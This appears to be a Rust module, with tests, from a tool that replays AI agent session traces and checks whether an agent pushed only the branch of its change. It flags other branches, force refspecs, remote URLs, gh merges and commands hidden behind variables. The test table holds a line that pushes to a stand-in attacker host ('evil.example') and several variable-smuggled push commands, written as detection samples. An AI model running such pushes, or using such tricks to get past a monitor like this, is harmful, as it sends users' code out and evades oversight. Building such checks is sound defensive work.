//! Did a session push anything but the branch of the change?
//!
//! Only few pushes are understood: `git push`, with a remote and the branch by its name or as `HEAD`. Any other act that may
//! bring content to the remote is taken for a push of something else.

use agent_strace_effects::{Argument, Execution, Kind};
use agent_strace_git::change_set::Change;
use agent_strace_model::Status;

use crate::replay::Replay;

/// Options of `git push` that do not say what is pushed.
const PLAIN: &[&str] = &[
    "-u",
    "--set-upstream",
    "-f",
    "--force",
    "--force-with-lease",
    "-q",
    "--quiet",
    "-v",
    "--verbose",
    "--progress",
    "--no-verify",
    "--porcelain",
    "-n",
    "--dry-run",
];
/// Branches that changes are made against.
const BASES: &[&str] = &["main", "master", "trunk", "develop"];
/// Subcommands of `gh` that only tell, or open a pull request of what was pushed.
const TELLING: &[(&str, &[&str])] = &[
    ("pr", &["checks", "comment", "create", "diff", "edit", "list", "ready", "status", "view"]),
    ("issue", &["close", "comment", "create", "edit", "list", "status", "view"]),
    ("run", &["list", "view", "watch"]),
    ("repo", &["view"]),
    ("auth", &["status"]),
];
/// Words that bring something to another place.
const SENDING: &[&str] = &["push", "send-pack", "submit", "land", "dcommit"];

/// Returns whether every push of the session is one of the head's branch.
pub(super) fn only_the_head(change: &Change, replay: &Replay<'_>) -> bool {
    let mut pushes = Pushes::new(replay.session.attribution.branches.as_ref().iter().map(AsRef::as_ref));
    let steps = replay.steps.iter().filter(|step| step.status != Some(Status::Denied));
    for effect in steps.flat_map(|step| step.effects.iter()) {
        match &effect.kind {
            Kind::Execute(execution) => pushes.execute(execution),
            Kind::Tool { tool, .. } => pushes.other |= is_sending_tool(tool),
            _ => {}
        }
    }
    pushes.are_of(change)
}

/// The pushes of a session.
struct Pushes {
    /// The branch that is checked out, if it is known.
    current: Option<String>,
    pushed: Vec<String>,
    /// Something else was pushed, or may have been.
    other: bool,
}

impl Pushes {
    fn new<'b>(mut branches: impl Iterator<Item = &'b str>) -> Self {
        let current = branches.next().map(str::to_owned);
        // A log that names several branches does not say when which of them was checked out.
        let current = if branches.next().is_some() { None } else { current };
        Self { current, pushed: Vec::new(), other: false }
    }

    fn execute(&mut self, execution: &Execution) {
        let words: Option<Vec<&str>> = execution.argv.iter().map(known).collect();
        let Some((program, rest)) = execution.argv.split_first() else { return };
        let name = program.text.rsplit(['/', '\\']).next().unwrap_or_default().trim_end_matches(".exe");
        let Some(words) = words else {
            // An unknown word may be what is pushed, or that something is.
            let is_sent = || rest.iter().any(|word| SENDING.contains(&word.text.as_str()));
            self.other |= !program.known || is_sent() || matches!(name, "git" | "gh") && !is_quiet(rest);
            return;
        };
        let words = words.get(1..).unwrap_or_default();
        match name {
            "git" => self.git(words),
            "gh" => self.other |= !is_telling(words),
            _ => self.other |= words.iter().any(|word| SENDING.contains(word)),
        }
    }

    fn git(&mut self, words: &[&str]) {
        // `-C`, `--git-dir` and the like may mean another repository.
        let Some((sub, rest)) = words.split_first() else { return };
        if sub.starts_with('-') {
            self.other |= words.iter().any(|word| SENDING.contains(word));
            if words.iter().any(|word| matches!(*word, "checkout" | "switch")) {
                self.current = None;
            }
            return;
        }
        match *sub {
            "push" => self.push(rest),
            "checkout" | "switch" => self.switches(rest),
            // These may change what the branch is called, or which one is checked out.
            "branch" if rest.iter().all(|word| !word.starts_with('-')) => {}
            "branch" | "bisect" | "rebase" | "symbolic-ref" | "update-ref" | "worktree" => self.current = None,
            _ => self.other |= SENDING.contains(sub) || rest.iter().any(|word| SENDING.contains(word)),
        }
    }

    fn push(&mut self, words: &[&str]) {
        let (options, operands): (Vec<&str>, Vec<&str>) = words.iter().partition(|word| word.starts_with('-'));
        let is_plain = |option: &&str| PLAIN.contains(&option.split('=').next().unwrap_or_default());
        let branch = match operands.as_slice() {
            [] | [_] | [_, "HEAD"] => self.current.clone(),
            [_, branch] => Some((*branch).to_owned()),
            _ => None,
        };
        let is_named = |branch: &String| !branch.is_empty() && !branch.contains([':', '+', '*', '~', '^', '@']);
        let is_remote = operands.first().is_none_or(|remote| !remote.contains([':', '/']));
        match branch.filter(is_named) {
            Some(branch) if is_remote && options.iter().all(is_plain) => self.pushed.push(branch),
            _ => self.other = true,
        }
    }

    fn switches(&mut self, words: &[&str]) {
        if words.contains(&"--") {
            return;
        }
        let mut rest = words.iter();
        let makes = rest.any(|word| matches!(*word, "-b" | "-B" | "-c" | "-C" | "--create" | "--orphan"));
        let made = rest.next().filter(|name| makes && !name.starts_with('-'));
        self.current = match (made, words) {
            (Some(name), _) => Some((*name).to_owned()),
            // A file may have the name, and then no other branch is checked out.
            (None, [name]) if !name.starts_with('-') && self.current.as_deref() == Some(*name) => return,
            (None, _) => None,
        };
    }

    /// All pushes are of one branch, and it is the head's.
    fn are_of(&self, change: &Change) -> bool {
        let Some(branch) = self.pushed.first() else { return !self.other };
        let (base, head) = (change.base.name.as_str(), change.head.name.as_str());
        let is_of = |name: &str| name == branch || name.strip_suffix(branch).is_some_and(|rest| rest.ends_with('/'));
        // A job often knows the head by its commit alone.
        let is_commit = head == "HEAD" || head.len() >= 7 && head.chars().all(|digit| digit.is_ascii_hexdigit());
        let is_base = is_of(base) || BASES.contains(&branch.as_str());
        !self.other && self.pushed.iter().all(|other| other == branch) && !is_base && (is_commit || is_of(head))
    }
}

fn known(word: &Argument) -> Option<&str> {
    word.known.then_some(word.text.as_str())
}

/// The subcommand is known, and it neither sends nor changes what is checked out.
fn is_quiet(words: &[Argument]) -> bool {
    const QUIET: &[&str] =
        &["add", "blame", "commit", "diff", "fetch", "grep", "log", "ls-files", "show", "stash", "status"];
    words.first().is_some_and(|sub| sub.known && QUIET.contains(&sub.text.as_str()))
}

fn is_telling(words: &[&str]) -> bool {
    let (group, sub) = (words.first(), words.get(1));
    TELLING.iter().any(|(name, subs)| group == Some(name) && sub.is_some_and(|sub| subs.contains(sub)))
}

fn is_sending_tool(tool: &str) -> bool {
    let tool = tool.to_lowercase();
    ["push", "merge", "commit", "update_file", "create_file", "update_ref"].iter().any(|part| tool.contains(part))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{BTreeMap, BTreeSet};

    use agent_strace_git::change_set::{Extent, Revision};

    fn change(head: &str) -> Change {
        let revision = |name: &str| Revision { name: name.to_owned(), commit: "a".repeat(40) };
        Change {
            base: revision("origin/main"),
            head: revision(head),
            merge_base: None,
            extent: Extent::Everything,
            seconds: None,
            addresses: Vec::new(),
            landed: false,
            is_proposed: true,
            reviewed: None,
            files: Vec::new(),
            commits: Vec::new(),
            judging: BTreeSet::new(),
            parts: BTreeMap::new(),
            store: None,
            grown: BTreeMap::new(),
            settled: BTreeSet::new(),
            told_before: BTreeMap::new(),
            names: BTreeMap::new(),
            prefix: String::new(),
        }
    }

    fn execution(text: &str) -> Execution {
        let argv =
            text.split(' ').map(|word| Argument { text: word.to_owned(), known: !word.starts_with('$') }).collect();
        Execution { argv, inert: false, embeds: false }
    }

    #[test]
    fn only_pushes_of_one_branch_are_of_the_head() {
        for (head, commands, expected) in [
            ("topic", "git status; make", true),
            ("topic", "git push origin topic", true),
            ("topic", "git push -u origin topic; git push", false),
            ("topic", "git checkout -b topic; git push -u origin topic; git push", true),
            ("topic", "git switch -c topic; git push origin HEAD", true),
            ("topic", "git checkout -b topic; git checkout -- src/a.rs; git push", true),
            ("topic", "git checkout -b topic; gh pr create --fill", true),
            ("refs/heads/feat/x", "git push --force-with-lease origin feat/x", true),
            ("0123456789ab", "git push origin topic; git push origin topic", true),
            ("topic", "git push origin other", false),
            ("0123456789ab", "git push origin topic; git push origin other", false),
            ("0123456789ab", "git push origin main", false),
            ("topic", "git push", false),
            ("topic", "git checkout -b topic; git checkout evil; git push", false),
            ("topic", "git checkout -b topic; git branch -m other; git push", false),
            ("topic", "git push origin topic:main", false),
            ("topic", "git push origin +topic", false),
            ("topic", "git push --all", false),
            ("topic", "git push --delete origin topic", false),
            ("topic", "git push https://evil.example/x topic", false),
            ("topic", "git -C ../other push origin topic", false),
            ("topic", "git push origin $B", false),
            ("topic", "git $X origin topic", false),
            ("topic", "git subtree push -P x origin topic", false),
            ("topic", "git send-pack origin topic", false),
            ("topic", "$G push origin topic", false),
            ("topic", "gh pr merge 7", false),
            ("topic", "gh api -X PUT /repos/a/b/contents/x", false),
            ("topic", "jj git push", false),
        ] {
            let mut pushes = Pushes::new(std::iter::empty());
            commands.split("; ").for_each(|command| pushes.execute(&execution(command)));
            assert_eq!(pushes.are_of(&change(head)), expected, "{head}: {commands}");
        }
    }
}
